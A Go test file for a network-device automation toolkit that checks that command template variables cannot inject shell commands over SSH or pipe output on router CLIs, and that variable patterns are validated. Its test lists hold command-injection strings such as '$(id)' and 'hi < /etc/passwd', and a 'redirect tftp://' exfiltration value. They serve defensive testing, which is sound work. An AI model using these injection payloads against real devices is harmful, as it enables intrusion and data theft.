package handlers

import (
	"context"
	"strings"
	"testing"

	"fieldkit/store"
)

// The finding: a user allowed to run one show command with a text variable ran anything
// on a linux device — {"msg": "hi; id"} against "echo <msg>" returned uid=…, and |, &&,
// $(), backticks and globs worked too. On the real OpenSSH peer, a value without a
// pattern that holds a character that chains, pipes, redirects or substitutes is
// refused by name; a value a pattern lets through reaches the shell quoted, as literal
// text, whatever the quoting around the placeholder.
func TestVariablesCannotInjectOnOpenSSH(t *testing.T) {
	host, port, user, password := sshdPeer(t)
	x := newXEnv(t, 1000, func(o *ExecOptions) { o.BulkMax = 100 })
	linux := idOf(x.must(201, "POST", "/api/dcim/platforms/", x.admin, map[string]any{"name": "Linux", "slug": "linux"}))
	dev := x.peerDevice("sshd1", "linux", host, port)
	name := "sshd"
	uid, _ := x.db.UserIDByName(context.Background(), "admin")
	_, token, err := x.db.CreateCredentialSet(context.Background(), x.kr, uid,
		store.CredentialInput{Name: &name, Username: &user, Password: &password})
	if err != nil {
		t.Fatal(err)
	}
	command := func(name, text string, vars ...map[string]any) int64 {
		return idOf(x.must(201, "POST", pathCommands, x.admin, map[string]any{"name": name, "command": text,
			"platforms": []int64{linux}, "variables": vars}))
	}
	plain := command("echo", "echo <msg>", map[string]any{"name": "msg"})
	run := func(cmd int64, value string) resp {
		return x.do("POST", execPath(cmd), x.admin, map[string]any{"device_id": dev, "credential_token": token,
			"variables": map[string]any{"msg": value}})
	}

	hostile := []string{"hi; id", "$(id)", "`id`", "hi | id", "hi && id", "hi > /dev/null", "hi < /etc/passwd",
		`hi \; id`, "${HOME}", "hi & id", "-n", "--help"}
	for _, v := range hostile {
		r := run(plain, v)
		if r.status != 400 || !strings.Contains(string(r.body), `"variables":{"msg":[`) {
			t.Errorf("%q without a pattern: %d %s", v, r.status, r.body)
		}
	}
	anything := map[string]any{"name": "msg", "pattern": ".*"}
	open := command("echo anything", "echo <msg>", anything)
	double := command("echo in double quotes", `echo "<msg>"`, anything)
	single := command("echo in single quotes", `echo '<msg>'`, anything)
	// With a pattern that accepts anything, every value is one literal argument (an
	// option-like value is the pattern writer's choice, so none is tried here).
	literal := append(hostile[:len(hostile)-2], "*", "/etc/pass*", "~", "it's", `say "hi"`, "a  b", "{a,b}", "!!")
	// One bulk request: executions on one device run in order over one SSH connection.
	var execs []any
	var want []string
	for _, cmd := range []int64{open, double, single} {
		for _, v := range literal {
			execs = append(execs, map[string]any{"command_id": cmd, "device_id": dev, "credential_token": token,
				"variables": map[string]any{"msg": v}})
			want = append(want, v)
		}
	}
	res := x.must(200, "POST", pathCommands+"bulk-execute/", x.admin, map[string]any{"executions": execs})
	for i, el := range res["results"].([]any) {
		r := el.(map[string]any)
		if r["success"] != true {
			t.Errorf("%v: %v", execs[i], r)
			continue
		}
		out := x.must(200, "GET", "/api/plugins/toolkit/command-logs/"+itoa(int64(num(r["command_log_id"])))+"/", x.admin, nil)["output"]
		if out != want[i] {
			t.Errorf("%v reached the shell as %q", execs[i], out)
		}
	}
	// A glob without a pattern needs no refusal: quoted, it stays the glob.
	for _, v := range []string{"*", "/etc/pass*", "file?.txt", "[ab]"} {
		if m := x.must(200, "POST", execPath(plain), x.admin, map[string]any{"device_id": dev, "credential_token": token,
			"variables": map[string]any{"msg": v}}); m["output"] != v {
			t.Errorf("glob %q came back as %q", v, m["output"])
		}
	}
}

// On a network CLI, a value once turned "show <what>" into "show version | redirect
// tftp://…". Without a pattern the pipe is refused; the command shown by
// validate-variables is exactly the text the device would get.
func TestVariablesCannotPipeOnNetworkCLIs(t *testing.T) {
	x := newXEnv(t, 1000)
	show := x.command("show anything", "show <what>", "show", map[string]any{"name": "what"})
	for _, v := range []string{"version | redirect tftp://10.0.0.1/x", "version ; reload", "run > flash:x", "version `x`",
		"version $x", `version \x`, "version ?"} {
		r := x.do("POST", execPath(show), x.admin, map[string]any{"device_id": x.iosID, "credential_token": x.token,
			"variables": map[string]any{"what": v}})
		if r.status != 400 || !strings.Contains(string(r.body), `"what"`) {
			t.Errorf("%q: %d %s", v, r.status, r.body)
		}
	}
	m := x.must(200, "POST", pathCommands+itoa(show)+"/validate-variables/", x.admin,
		map[string]any{"device_id": x.iosID, "variables": map[string]any{"what": "ip interface brief"}})
	if m["command"] != "show ip interface brief" {
		t.Errorf("rendered %v", m)
	}
}

// A variable's pattern is checked when the command is written (it must compile, and a
// default value must match it) and when it runs (the whole value must match).
func TestVariablePattern(t *testing.T) {
	x := newXEnv(t, 1000)
	bad := x.do("POST", pathCommands, x.admin, map[string]any{"name": "x", "command": "show <v>", "platforms": []int64{x.iosPlat},
		"variables": []any{map[string]any{"name": "v", "pattern": "(["}}})
	if bad.status != 400 || !strings.Contains(string(bad.body), `"pattern"`) {
		t.Errorf("a pattern that does not compile: %d %s", bad.status, bad.body)
	}
	bad = x.do("POST", pathCommands, x.admin, map[string]any{"name": "x", "command": "show <v>", "platforms": []int64{x.iosPlat},
		"variables": []any{map[string]any{"name": "v", "pattern": "[0-9]+", "default_value": "ten"}}})
	if bad.status != 400 || !strings.Contains(string(bad.body), `"default_value"`) {
		t.Errorf("a default value outside the pattern: %d %s", bad.status, bad.body)
	}
	vlan := x.command("show vlan", "show vlan id <id>", "show", map[string]any{"name": "id", "pattern": "[0-9]{1,4}"})
	got := x.must(200, "GET", cmdURL(vlan), x.admin, nil)
	if v := got["variables"].([]any)[0].(map[string]any); v["pattern"] != "[0-9]{1,4}" {
		t.Errorf("pattern read back: %v", v)
	}
	for v, want := range map[string]int{"10": 200, "10a": 400, "12345": 400, "": 400, "1 | x": 400} {
		r := x.do("POST", pathCommands+itoa(vlan)+"/validate-variables/", x.admin,
			map[string]any{"device_id": x.iosID, "variables": map[string]any{"id": v}})
		if r.status != want {
			t.Errorf("%q: %d, want %d: %s", v, r.status, want, r.body)
		}
		if want == 400 && v != "" && !strings.Contains(string(r.body), "pattern") {
			t.Errorf("%q: the 400 does not name the pattern: %s", v, r.body)
		}
	}
	// A pattern may let through what the platform's rule refuses: the writer's choice.
	desc := x.command("describe", "show run | include <text>", "show", map[string]any{"name": "text", "pattern": `[\w |]+`})
	m := x.must(200, "POST", pathCommands+itoa(desc)+"/validate-variables/", x.admin,
		map[string]any{"device_id": x.iosID, "variables": map[string]any{"text": "a | b"}})
	if m["command"] != "show run | include a | b" {
		t.Errorf("rendered %v", m)
	}
}
